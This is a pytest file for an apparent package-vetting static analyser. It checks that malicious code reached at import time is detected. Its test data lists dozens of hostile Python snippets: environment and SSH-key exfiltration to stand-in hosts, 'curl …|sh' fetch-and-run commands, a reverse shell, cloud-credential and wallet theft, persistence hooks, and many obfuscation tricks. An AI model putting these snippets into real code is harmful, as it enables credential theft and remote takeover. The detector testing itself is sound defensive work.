"""The many ways to reach the same thing: names, values and calls are followed, and none of this code is run."""

import pytest

from wheelhouse.vet.code.behaviour import AT_IMPORT
from wheelhouse.vet.code.follow import Source, follow
from wheelhouse.vet.rules.importing import SERIOUS

WAYS = {
    "dictcomp env": ("import os,requests\nrequests.post('https://x.example',json={k:v for k,v in os.environ.items()})"),
    "loop env": (
        "import os,requests\n"
        "d={}\n"
        "for k,v in os.environ.items():\n"
        "    d[k]=v\n"
        "requests.post('https://x.example',json=d)"
    ),
    "py -c": (
        "import sys,subprocess\n"
        "subprocess.Popen([sys.executable,'-c',\"import urllib.request;exec(urllib.request.urlopen('https://a.example').read())\"],creationflags=0x08000000)"
    ),
    "revshell": (
        "import socket,os,subprocess\n"
        "s=socket.socket()\n"
        "s.connect(('a.example',1))\n"
        "os.dup2(s.fileno(),0)\n"
        "subprocess.call(['/bin/sh','-i'])"
    ),
    "import o+s": ("import importlib\nimportlib.import_module('o'+'s').system('curl https://a.example|sh')"),
    "lambda call": ("import base64\n(lambda: exec(base64.b64decode('eA==')))()"),
    "builtins dict": ("__builtins__.__dict__['exec']('x')"),
    "builtins dict2": ("__builtins__['exec']('x')"),
    "sys.modules": ("import sys\ngetattr(sys.modules['os'],'system')('curl https://a.example')"),
    "attrgetter": ("import os,operator\noperator.attrgetter('system')(os)('curl https://a.example|sh')"),
    "methodcaller": ("import os,operator\noperator.methodcaller('system','curl https://a.example|sh')(os)"),
    "partial": ("import os,functools\nfunctools.partial(os.system,'curl https://a.example|sh')()"),
    "subclasses": ("[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['curl','x'])"),
    "cdll system": ("import ctypes\nctypes.CDLL(None).system(b'curl https://a.example|sh')"),
    "virtualalloc": (
        "import ctypes\n"
        "p=ctypes.windll.kernel32.VirtualAlloc(0,10,0x3000,0x40)\n"
        "ctypes.windll.kernel32.RtlMoveMemory(p,b'x',1)\n"
        "ctypes.CFUNCTYPE(ctypes.c_int)(p)()"
    ),
    "pty": ("import pty\npty.spawn('/bin/sh')"),
    "copyfileobj": (
        "import shutil,urllib.request\n"
        "with urllib.request.urlopen('https://a.example') as r, open('/tmp/x.exe','wb') as f:\n"
        "    shutil.copyfileobj(r,f)"
    ),
    "urlretrieve temp": (
        "import urllib.request,os,tempfile\n"
        "p=os.path.join(tempfile.gettempdir(),'a.exe')\n"
        "urllib.request.urlretrieve('https://a.example/a',p)\n"
        "os.startfile(p)"
    ),
    "telegram doc": (
        "import requests,os\n"
        "T='1234567890:AAAA'\n"
        "requests.post(f'https://api.telegram.org/bot{T}/sendDocument',files={'document':open(os.path.expanduser('~/.ssh/id_rsa'),'rb')})"
    ),
    "glob ssh": ("import glob,os\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n    print(open(f).read())"),
    "walk env": (
        "import os,requests\n"
        "for r,d,fs in os.walk(os.path.expanduser('~')):\n"
        "    for f in fs:\n"
        "        if f=='.env':\n"
        "            requests.post('https://a.example',data=open(os.path.join(r,f)).read())"
    ),
    "solana": ("import os\nopen(os.path.expanduser('~/.config/solana/id.json')).read()"),
    "exec dat": ("import os\nexec(open(os.path.join(os.path.dirname(__file__),'logo.png'),'rb').read()[100:])"),
    "runpy": (
        "import runpy,tempfile,requests\n"
        "open('/tmp/a.py','wb').write(requests.get('https://a.example').content)\n"
        "runpy.run_path('/tmp/a.py')"
    ),
    "httpclient env": (
        "import http.client,json,os\n"
        "c=http.client.HTTPSConnection('a.example')\n"
        "c.request('POST','/',json.dumps(dict(os.environ)))"
    ),
    "nslookup": ("import os,socket\nos.system('nslookup '+socket.gethostname()+'.a.example')"),
    "popen whoami": ("import os,requests\nu=os.popen('whoami').read()\nrequests.get('https://a.example/'+u)"),
    "atexit": ("import atexit,os\n@atexit.register\ndef f():\n    os.system('curl https://a.example|sh')"),
    "timer": (
        "import threading,os\ndef f():\n    os.system('curl https://a.example|sh')\nthreading.Timer(5,f).start()"
    ),
    "asyncio": ("import asyncio,os\nasync def f():\n    os.system('curl https://a.example|sh')\nasyncio.run(f())"),
    "executor": (
        "from concurrent.futures import ThreadPoolExecutor\n"
        "import os\n"
        "def f():\n"
        "    os.system('curl https://a.example|sh')\n"
        "with ThreadPoolExecutor() as e:\n"
        "    e.submit(f)"
    ),
    "memfd": (
        "import os,requests\n"
        "fd=os.memfd_create('x')\n"
        "os.write(fd,requests.get('https://a.example').content)\n"
        "os.execve(f'/proc/self/fd/{fd}',['x'],os.environ)"
    ),
    "winreg": (
        "import winreg\n"
        "k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run',0,winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k,'x',0,1,'y')"
    ),
    "request obj": (
        "from urllib.request import Request,urlopen\n"
        "exec(urlopen(Request('https://a.example',headers={})).read().decode())"
    ),
    "urllib3": ("import urllib3\nexec(urllib3.PoolManager().request('GET','https://a.example').data)"),
    "session": ("import requests\ns=requests.Session()\nexec(s.get('https://a.example').text)"),
    "aiohttp": (
        "import aiohttp,asyncio\n"
        "async def f():\n"
        "    async with aiohttp.ClientSession() as s:\n"
        "        async with s.get('https://a.example') as r:\n"
        "            exec(await r.text())\n"
        "asyncio.run(f())"
    ),
    "decorator": ("import os\ndef d(f):\n    os.system('curl https://a.example|sh')\n    return f\n@d\ndef g(): pass"),
    "metaclass": (
        "import os\n"
        "class M(type):\n"
        "    def __new__(c,*a):\n"
        "        os.system('curl https://a.example|sh')\n"
        "        return type.__new__(c,*a)\n"
        "class X(metaclass=M): pass"
    ),
    "init_subclass": (
        "import os\n"
        "class B:\n"
        "    def __init_subclass__(cls):\n"
        "        os.system('curl https://a.example|sh')\n"
        "class X(B): pass"
    ),
    "for else": ("import os\nfor x in (1,2):\n    y=x\nelse:\n    os.system('curl https://a.example|sh')"),
    "match guard": ("import os\nmatch 1:\n    case _ if os.system('curl https://a.example|sh'): pass"),
    "delete": ("import os\nx={}\ndel x[os.system('curl https://a.example|sh')]"),
    "class keyword": ("import os\nclass X(y=os.system('curl https://a.example|sh')): pass"),
    "class decorator": (
        "import os\ndef d(c):\n    os.system('curl https://a.example|sh')\n    return c\n@d\nclass X: pass"
    ),
    "lambda default": ("import os\nf=lambda x=os.system('curl https://a.example|sh'): x"),
    "parameter annotation": ("import os\ndef f(x: os.system('curl https://a.example|sh')): pass"),
    "keyword default": ("import os\ndef f(*,c='curl https://a.example|sh'):\n    os.system(c)\nf()"),
    "format": ("import os\ndef d():\n    os.system('curl https://a.example|sh')\nx=f'{1:{d()}}'"),
    "dictcomp condition": ("import os\nx={k:1 for k in (1,) if os.system('curl https://a.example|sh')}"),
    "augmented item": ("import os\nx={}\nx[os.system('curl https://a.example|sh')]+=1"),
    "raise from": (
        "import os\ntry:\n    raise ValueError from os.system('curl https://a.example|sh')\nexcept Exception: pass"
    ),
    "assert message": ("import os\ntry:\n    assert 0,os.system('curl https://a.example|sh')\nexcept Exception: pass"),
    "except": ("import os\ntry:\n    x\nexcept (os.system('curl https://a.example|sh'),Exception): pass"),
    "property default": ("import os\ndef f(x=os.system('curl https://a.example|sh')): pass"),
    "annotation": ("import os\nx: os.system('curl https://a.example|sh') = 1"),
    "xor loop": ("k=3\nd=[1,2,3,4]\ns=''\nfor c in d:\n    s+=chr(c^k)\nexec(s)"),
    "replace": ("exec('ixmport oxs;oxs.systexm(\"curl https://a.example|sh\")'.replace('x',''))"),
    "join rev": ("exec(''.join(reversed(')\"hs|elpmaxe.a//:sptth lruc\"(metsys.so;so tropmi')))"),
    "hex": ("exec(bytes.fromhex('7072696e742831290a').decode())"),
    "unhexlify": ("from binascii import unhexlify as u\nexec(u('7072696e742831290a'))"),
    "codecs hex": ("import codecs\nexec(codecs.decode('7072696e742831290a','hex'))"),
    "lzma": ("import lzma,base64\nexec(lzma.decompress(base64.b85decode('x')))"),
    "import hook as": ("import base64 as b\ne=exec\nd=b.b64decode\ne(d('eA=='))"),
    "dict dispatch": ("import base64\nF={'r':exec,'d':base64.b64decode}\nF['r'](F['d']('eA=='))"),
    "star": ("import base64\nexec(*[base64.b64decode('eA==')])"),
    "walrus": ("import base64\nexec((p:=base64.b64decode('eA==')))"),
    "ternary": ("import base64\n(exec if 1 else print)(base64.b64decode('eA=='))"),
    "class attr": ("import base64\nclass A:\n    p=base64.b64decode('eA==')\n    r=exec\nA.r(A.p)"),
    "self attr": (
        "import base64\n"
        "class A:\n"
        "    def __init__(s):\n"
        "        s.p=base64.b64decode('eA==')\n"
        "        s.go()\n"
        "    def go(s):\n"
        "        exec(s.p)\n"
        "A()"
    ),
    "globals set": ("import base64\nglobals()['zz']=exec\nzz(base64.b64decode('eA=='))"),
    "type3": ("import types,marshal\ntypes.FunctionType(marshal.loads(b'c'),globals())()"),
    "compile exec": ("import base64\nc=compile(base64.b64decode('eA=='),'x','exec')\nexec(c)"),
    "keylog": ("import keyboard\nkeyboard.on_press(lambda e: None)"),
    "os.walk wallets": (
        "import os\nfor f in os.listdir(os.path.join(os.getenv('APPDATA'),'Exodus','exodus.wallet')): print(f)"
    ),
    "chrome": (
        "import os,shutil\nshutil.copy(os.environ['LOCALAPPDATA']+r'\\Google\\Chrome\\User Data\\Local State','x')"
    ),
    "crontab file": ("open('/etc/cron.d/x','w').write('x')"),
    "launchagent": ("import os\nopen(os.path.expanduser('~/Library/LaunchAgents/com.x.plist'),'w').write('x')"),
    "requests in helper w arg": (
        "import requests\n"
        "def post(u,d):\n"
        "    return requests.post(u,json=d)\n"
        "import os\n"
        "post('https://a.example',dict(os.environ))"
    ),
    "platform": ("import platform,requests\nrequests.post('https://a.example',json={'n':platform.node()})"),
    "env get all": ("import os,urllib.request\nurllib.request.urlopen('https://a.example/?'+str(os.environ))"),
    "subproc env": (
        "import subprocess,requests\n"
        "o=subprocess.check_output('env',shell=True)\n"
        "requests.post('https://a.example',data=o)"
    ),
    "cat aws": ("import subprocess\nsubprocess.check_output('cat ~/.aws/credentials',shell=True)"),
    "k8s token": ("open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()"),
    "imds": (
        "import urllib.request\n"
        "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()"
    ),
}
"""Code that reads, sends, runs or writes at import what a reviewer must see."""


@pytest.mark.parametrize("way", WAYS)
def test_what_is_reached_in_another_way_is_found_at_import(way: str) -> None:
    found = follow((Source("odd/__init__.py", "odd", WAYS[way].encode(), is_package=True),))
    serious = {one.kind for one in found if one.reach == AT_IMPORT} & {*SERIOUS, "sends-file", "metadata", "process"}
    assert serious


REACHES = {
    "import": "import os\ndef f():\n    os.system('curl https://a.example')\nf()\n",
    "called": "import os\ndef f():\n    os.system('curl https://a.example')\n",
}


@pytest.mark.parametrize("reach", REACHES)
def test_how_it_is_reached_is_said(reach: str) -> None:
    assert [
        one.reach for one in follow((Source("odd.py", "odd", REACHES[reach].encode()),)) if one.kind == "command"
    ] == [reach]


@pytest.mark.parametrize(
    ("path", "reach"),
    [
        ("odd/tests/x.py", "tests"),
        ("odd/__main__.py", "called"),
        ("odd/latest.py", "import"),
        ("docs/conf.py", "tests"),
    ],
)
def test_the_place_says_how_a_module_is_reached(path: str, reach: str) -> None:
    source = Source(
        path, path.removesuffix(".py").replace("/", "."), b"import os\nos.system('curl https://a.example')\n"
    )
    assert [one.reach for one in follow((source,)) if one.kind == "command"] == [reach]


@pytest.mark.parametrize(
    ("address", "is_found"),
    [
        ("http://[2001:db8::7]/", True),
        ("http://198.51.100.7/", True),
        ("http://[::1]:8080/", False),
        ("http://[fd00::7]/", False),
        ("http://[fe80::7]/", False),
        ("http://127.0.0.1/", False),
        ("http://10.0.0.7/", False),
    ],
)
def test_a_numeric_address_is_a_finding_if_it_can_be_somebody_elses(address: str, is_found: bool) -> None:
    code = f"import urllib.request\nurllib.request.urlopen('{address}')\n".encode()
    assert ("address" in {one.kind for one in follow((Source("odd.py", "odd", code),))}) is is_found
